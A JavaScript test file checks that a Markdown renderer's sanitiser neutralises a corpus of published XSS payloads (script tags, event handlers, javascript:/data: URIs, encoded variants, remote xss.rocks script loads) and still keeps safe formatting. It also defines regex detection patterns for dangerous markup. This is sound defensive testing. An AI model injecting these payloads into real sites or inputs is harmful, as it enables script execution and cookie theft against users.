/**
 * The article renderer against published XSS payloads (a selection from the OWASP "XSS Filter
 * Evasion Cheat Sheet" and the PortSwigger XSS cheat sheet, as Markdown and as raw HTML): every
 * payload comes out inert, while the safe formatting authors use (alignment, table widths,
 * colours, task lists, code) survives (reference §2.11 item 7: the original blanked every style).
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { renderMarkdown } from '../src/domain/render.js';

const PAYLOADS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  "<IMG SRC=javascript:alert('XSS')>",
  "<IMG SRC=JaVaScRiPt:alert('XSS')>",
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT SRC=http://xss.rocks/xss.js?< B >',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '</TITLE><SCRIPT>alert("XSS");</SCRIPT>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  "<svg/onload=alert('XSS')>",
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<TABLE><TD BACKGROUND="javascript:alert(\'XSS\')">',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<p style="color: red; background: url(javascript:alert(1))">x</p>',
  '<div style="text-align: center; behavior: url(xss.htc)">x</div>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv">',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="&#x6A;avascript:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)">',
  '<audio src/onerror=alert(1)>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<object data="javascript:alert(1)">',
  '<input autofocus onfocus=alert(1)>',
  '<input type="hidden" accesskey="X" onclick="alert(1)">',
  '<a href="#" id="x" class="x" style="position:fixed;top:0;left:0;width:100%;height:100%">overlay</a>',
  '[click](javascript:alert(1))',
  '[click](JAVASCRIPT:alert(1))',
  '[click](&#106;avascript:alert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '![img](javascript:alert(1))',
  '![img](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '[a](<javascript:alert(1)>)',
  '<javascript:alert(1)>',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
];

/** Markup that would run script or load something active, in sanitised output. */
const DANGER = [
  /<\s*(script|iframe|object|embed|svg|math|style|link|meta|base|form|body|video|audio|source|marquee|isindex|button)\b/i,
  /\son[a-z]+\s*=/i,
  /(href|src|action|background|data)\s*=\s*["']?\s*(javascript|vbscript|data):/i,
  /expression\s*\(/i,
  /url\s*\(/i,
  /behavior\s*:/i,
  /position\s*:/i,
  /<input(?![^>]*type="checkbox")/i,
];

describe('knowledgetree: the Markdown sanitiser', () => {
  it('makes every payload of the corpus inert', () => {
    for (const payload of PAYLOADS) {
      const { html } = renderMarkdown(`Before\n\n${payload}\n\nafter`);
      // Only real tags matter: a payload turned into escaped text (`&lt;script&gt;`) is inert.
      const tags = (html.match(/<[^>]*>/g) ?? []).join(' ');
      for (const pattern of DANGER) assert.doesNotMatch(tags, pattern, `payload ${JSON.stringify(payload)} → ${html}`);
      // Nothing the author wrote can become an attribute breaking out of its quotes.
      assert.doesNotMatch(tags, /="[^"]*"[a-z]/i, `payload ${JSON.stringify(payload)} → ${html}`);
    }
  });

  it('keeps safe formatting: alignment, table widths, colours, task lists, code and links', () => {
    const { html } = renderMarkdown(
      [
        '<p style="text-align: center">Centred</p>',
        '',
        '<table style="width: 80%"><tr><td style="width: 30%; text-align: right">A</td><td style="color: #c00">B</td></tr></table>',
        '',
        '| Left | Right |',
        '|:-----|------:|',
        '| a | b |',
        '',
        '- [x] done',
        '- [ ] todo',
        '',
        '```js',
        'const x = 1 < 2;',
        '```',
        '',
        '[docs](https://example.com/a?b=1) and [local](/knowledgetree/view/00000000-0000-0000-0000-000000000000) <mark>hi</mark>',
      ].join('\n'),
    );
    assert.match(html, /<p style="text-align:center">Centred<\/p>/);
    assert.match(html, /<table style="width:80%">/);
    assert.match(html, /<td style="width:30%;text-align:right">A<\/td>/);
    assert.match(html, /<td style="color:#c00">B<\/td>/);
    assert.match(html, /<td style="text-align:right">b<\/td>/);
    assert.match(html, /<li class="task-list-item"><input type="checkbox" checked disabled \/> done/);
    assert.match(html, /<code class="language-js">const x = 1 &lt; 2;/);
    assert.match(
      html,
      /<a href="https:\/\/example.com\/a\?b=1" rel="noopener noreferrer nofollow" target="_blank">docs<\/a>/,
    );
    assert.match(html, /<a href="\/knowledgetree\/view\/0{8}-0{4}-0{4}-0{4}-0{12}">local<\/a>/);
    assert.match(html, /<mark>hi<\/mark>/);
  });
});
